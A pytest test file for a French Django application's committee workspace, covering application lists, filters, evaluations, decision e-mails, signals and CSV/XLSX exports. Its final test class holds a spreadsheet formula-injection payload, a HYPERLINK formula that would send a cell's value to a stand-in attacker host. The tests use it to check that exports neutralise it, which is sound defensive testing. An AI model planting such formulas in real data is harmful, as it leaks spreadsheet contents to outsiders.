"""Committee space: list and filters, reviews, decision with e-mail and signal, exports, mailing."""

import csv
import io

import pytest
from django.db import transaction
from django.urls import reverse
from openpyxl import load_workbook

from essaim.appels.enums import Decision, StatutCandidature
from essaim.appels.models import Candidature, Evaluation
from essaim.appels.signals import candidature_decidee
from essaim.commun.models import StatutTravail, Travail
from essaim.comptes.tests.factories import UtilisateurFactory, charge_de_mission, partenaire

from .factories import AppelFactory, CandidatureFactory, EvaluationFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def appel():
    return AppelFactory(titre="Ateliers de la conférence 2026", libelles_decision={"retenue": "Labellisé"})


@pytest.fixture
def staff(client):
    user = charge_de_mission("32", first_name="Camille", last_name="Chargée")
    client.force_login(user)
    return user


def _candidature(appel, titre, **kwargs):
    return CandidatureFactory(appel=appel, reponses={"titre": titre, "format": "visio"}, **kwargs)


class TestListe:
    def test_liste_sans_les_brouillons_avec_la_synthese_des_avis(self, client, appel, staff):
        c = _candidature(appel, "Atelier évalué")
        EvaluationFactory(candidature=c, avis="favorable", note=4)
        EvaluationFactory(candidature=c, avis="reserve", note=2)
        _candidature(appel, "Brouillon caché", statut=StatutCandidature.BROUILLON)
        page = client.get(reverse("appels:comite", args=[appel.slug])).content.decode()
        assert "1 candidature déposée." in page
        assert "Atelier évalué" in page and "Brouillon caché" not in page
        assert "1 fav. · 1 rés. · 0 déf." in page
        assert ">3,0<" in page

    def test_filtres(self, client, appel, staff):
        _candidature(appel, "Retenu", statut=StatutCandidature.DECIDEE, decision=Decision.RETENUE)
        _candidature(appel, "Atelier du réseau", type_candidat="reseau")
        evaluee = _candidature(appel, "Déjà évaluée par moi")
        EvaluationFactory(candidature=evaluee, evaluateur=staff)
        url = reverse("appels:comite", args=[appel.slug])

        def titres(**params):
            page = client.get(url, params).content.decode()
            return {t for t in ["Retenu", "Atelier du réseau", "Déjà évaluée par moi"] if f">{t}<" in page}

        assert titres(decision="retenue") == {"Retenu"}
        assert titres(decision="aucune") == {"Atelier du réseau", "Déjà évaluée par moi"}
        assert titres(type_candidat="reseau") == {"Atelier du réseau"}
        assert titres(evaluation="a_faire") == {"Retenu", "Atelier du réseau"}
        assert titres(evaluation="faite") == {"Déjà évaluée par moi"}
        assert titres(q="Atelier du") == {"Atelier du réseau"}
        assert titres(statut="decidee") == {"Retenu"}

    def test_le_libelle_de_decision_de_l_appel_est_propose_au_filtre(self, client, appel, staff):
        page = client.get(reverse("appels:comite", args=[appel.slug])).content.decode()
        assert '<option value="retenue">Labellisé</option>' in page


class TestEvaluation:
    def test_fiche_avec_les_evaluations_de_chaque_membre(self, client, appel, staff):
        c = _candidature(appel, "Atelier à évaluer")
        membre = partenaire("32", first_name="Paul", last_name="Partenaire", organisation="ADEME")
        EvaluationFactory(
            candidature=c, evaluateur=membre, avis="defavorable", note=1, commentaire="Trop flou."
        )
        page = client.get(c.get_absolute_url()).content.decode()
        assert "Paul Partenaire" in page and "(ADEME)" in page
        assert "Défavorable" in page and "note 1/5" in page and "Trop flou." in page
        assert "1 évaluation : 0 favorable, 0 réservé, 1 défavorable." in page

    def test_une_seule_evaluation_par_membre_mise_a_jour(self, client, appel, staff):
        c = _candidature(appel, "Atelier")
        url = reverse("appels:evaluer", args=[c.pk])
        client.post(url, {"avis": "reserve", "note": "3", "commentaire": "À préciser"})
        client.post(url, {"avis": "favorable", "note": "5", "commentaire": "Précisé"})
        evaluation = Evaluation.objects.get()
        assert (evaluation.avis, evaluation.note, evaluation.commentaire) == ("favorable", 5, "Précisé")
        c.refresh_from_db()
        assert c.statut == StatutCandidature.EN_EVALUATION

    def test_note_hors_bornes_refusee_en_francais(self, client, appel, staff):
        c = _candidature(appel, "Atelier")
        reponse = client.post(reverse("appels:evaluer", args=[c.pk]), {"avis": "favorable", "note": "7"})
        assert reponse.status_code == 400
        assert "Assurez-vous que cette valeur est inférieure ou égale à 5." in reponse.content.decode()
        assert not Evaluation.objects.exists()


class TestDecision:
    def test_decider_envoie_l_email_avec_le_libelle_de_l_appel(self, client, appel, staff, mailoutbox):
        c = _candidature(appel, "Atelier retenu")
        page = client.get(reverse("appels:decider", args=[c.pk])).content.decode()
        assert "Labellisé" in page and "À revoir" in page and "Refusée" in page
        reponse = client.post(
            reverse("appels:decider", args=[c.pk]),
            {"decision": "retenue", "message": "Félicitations, rendez-vous en mai.", "notifier": "on"},
            follow=True,
        )
        assert "Décision « Labellisé » enregistrée et envoyée par e-mail." in reponse.content.decode()
        c.refresh_from_db()
        assert (c.statut, c.decision, c.decidee_par) == (StatutCandidature.DECIDEE, "retenue", staff)
        assert c.notifiee_le is not None
        (courriel,) = mailoutbox
        assert courriel.subject == "Ateliers de la conférence 2026 : bonne nouvelle pour votre candidature"
        assert "Décision : Labellisé\n\nFélicitations, rendez-vous en mai.\n\n" in courriel.body
        assert courriel.body.endswith("Bien cordialement,\nL'équipe CRESS Hauts-de-France\n")

    def test_decider_sans_envoyer_puis_envoi_groupe_en_tache_de_fond(self, client, appel, staff, mailoutbox):
        a = _candidature(appel, "A")
        b = _candidature(appel, "B")
        for c, decision in ((a, "refusee"), (b, "a_revoir")):
            client.post(reverse("appels:decider", args=[c.pk]), {"decision": decision, "message": ""})
        assert mailoutbox == []
        page = client.get(reverse("appels:comite", args=[appel.slug])).content.decode()
        assert "2 décisions n'ont pas encore été envoyées." in page
        reponse = client.post(reverse("appels:notifier", args=[appel.slug]))
        travail = Travail.objects.get()
        assert reponse["Location"] == travail.get_absolute_url()
        assert travail.statut == StatutTravail.TERMINE and travail.resultat["envoyes"] == 2
        assert sorted(m.subject for m in mailoutbox) == [
            "Ateliers de la conférence 2026 : réponse à votre candidature",
            "Ateliers de la conférence 2026 : votre candidature est à compléter",
        ]
        assert not Candidature.objects.filter(notifiee_le__isnull=True).exists()
        # A second run has nothing left to send.
        client.post(reverse("appels:notifier", args=[appel.slug]))
        assert len(mailoutbox) == 2

    def test_le_signal_est_envoye_dans_la_transaction_de_la_decision(self, client, appel, staff):
        c = _candidature(appel, "Atelier")
        recus = []

        def recepteur(sender, candidature, decision, **kwargs):
            recus.append((sender, candidature.pk, decision, transaction.get_connection().in_atomic_block))

        candidature_decidee.connect(recepteur)
        try:
            client.post(reverse("appels:decider", args=[c.pk]), {"decision": "retenue"})
        finally:
            candidature_decidee.disconnect(recepteur)
        assert recus == [(Candidature, c.pk, "retenue", True)]

    def test_un_recepteur_en_echec_annule_la_decision(self, appel):
        from essaim.appels.services.candidatures import decider

        c = _candidature(appel, "Atelier")

        def recepteur(**kwargs):
            raise RuntimeError("atelier impossible à créer")

        candidature_decidee.connect(recepteur)
        try:
            with pytest.raises(RuntimeError):
                decider(c, decision="retenue", notifier=False)
        finally:
            candidature_decidee.disconnect(recepteur)
        c.refresh_from_db()
        assert c.decision == "" and c.statut == StatutCandidature.DEPOSEE

    def test_la_decision_est_visible_par_le_candidat(self, client, appel):
        c = _candidature(
            appel, "Atelier", statut=StatutCandidature.DECIDEE, decision="retenue", message_decision="Bravo !"
        )
        client.force_login(c.candidat)
        page = client.get(c.get_absolute_url()).content.decode()
        assert "Décision : Labellisé" in page and "Bravo !" in page
        assert "Évaluations du comité" not in page


class TestExport:
    def test_export_csv_avec_une_colonne_par_question(self, client, appel, staff):
        c = CandidatureFactory(appel=appel, nom_structure="Les Transitions")
        EvaluationFactory(candidature=c, note=4)
        EvaluationFactory(candidature=c, note=3, avis="reserve")
        reponse = client.get(
            reverse("appels:export", args=[appel.slug, "csv"]), {"separateur": "point-virgule"}
        )
        assert reponse["Content-Disposition"] == f'attachment; filename="candidatures-{appel.slug}.csv"'
        texte = b"".join(reponse.streaming_content).decode("utf-8-sig")
        lignes = list(csv.reader(io.StringIO(texte), delimiter=";"))
        entete = lignes[0]
        assert entete[:4] == ["numero", "intitule", "structure", "type_candidat"]
        assert "q_transitions" in entete and "q_commune" in entete
        valeurs = dict(zip(entete, lignes[1], strict=True))
        assert valeurs["structure"] == "Les Transitions"
        assert valeurs["q_transitions"] == "Écologique ; Économique"
        assert valeurs["q_commune"] == "Lille (59350)"
        assert valeurs["q_date"] == "05/2026"
        assert valeurs["q_capacite"] == "40"
        assert valeurs["note_moyenne"] == "3.5"
        assert valeurs["reserves"] == "1"

    def test_export_xlsx_lisible(self, client, appel, staff):
        CandidatureFactory(appel=appel)
        reponse = client.get(reverse("appels:export", args=[appel.slug, "xlsx"]))
        classeur = load_workbook(io.BytesIO(b"".join(reponse.streaming_content)))
        feuille = classeur.active
        entetes = [c.value for c in feuille[1]]
        assert entetes[:3] == ["N°", "Intitulé", "Structure candidate"]
        assert "Titre de l'atelier" in entetes
        ligne = [c.value for c in feuille[2]]
        assert ligne[1] == "Comment financer la transition écologique des associations ?"

    def test_format_inconnu(self, client, appel, staff):
        reponse = client.get(reverse("appels:export", args=[appel.slug, "geojson"]), follow=True)
        assert "Le format GeoJSON demande des coordonnées." in reponse.content.decode()


def test_membre_du_comite_voit_ses_appels_sur_la_liste(client):
    membre = UtilisateurFactory()
    appel = AppelFactory(titre="Appel évalué par moi", comite=[membre])
    AppelFactory(titre="Autre appel")
    client.force_login(membre)
    page = client.get(reverse("appels:liste")).content.decode()
    assert "Mes espaces comité" in page
    assert f'href="/appels/{appel.slug}/comite/"' in page


class TestExportSansFormule:
    """Applications are written by the public: no formula reaches the committee's spreadsheet."""

    FORMULE = '=HYPERLINK("http://pirate.example/?"&A1,"Voir")'

    def test_csv_prefixes_formula_like_answers(self, client, appel, staff):
        CandidatureFactory(
            appel=appel,
            nom_structure="+33 6 00 00 00 00",
            reponses={"titre": self.FORMULE, "format": "visio"},
        )
        reponse = client.get(reverse("appels:export", args=[appel.slug, "csv"]))
        texte = b"".join(reponse.streaming_content).decode("utf-8-sig")
        ligne = next(csv.DictReader(io.StringIO(texte)))
        assert ligne["intitule"] == "'" + self.FORMULE
        assert ligne["structure"] == "'+33 6 00 00 00 00"

    def test_xlsx_stores_them_as_strings(self, client, appel, staff):
        CandidatureFactory(appel=appel, reponses={"titre": self.FORMULE, "format": "visio"})
        reponse = client.get(reverse("appels:export", args=[appel.slug, "xlsx"]))
        feuille = load_workbook(io.BytesIO(b"".join(reponse.streaming_content))).active
        intitule = feuille.cell(row=2, column=2)
        assert (intitule.value, intitule.data_type) == (self.FORMULE, "s")
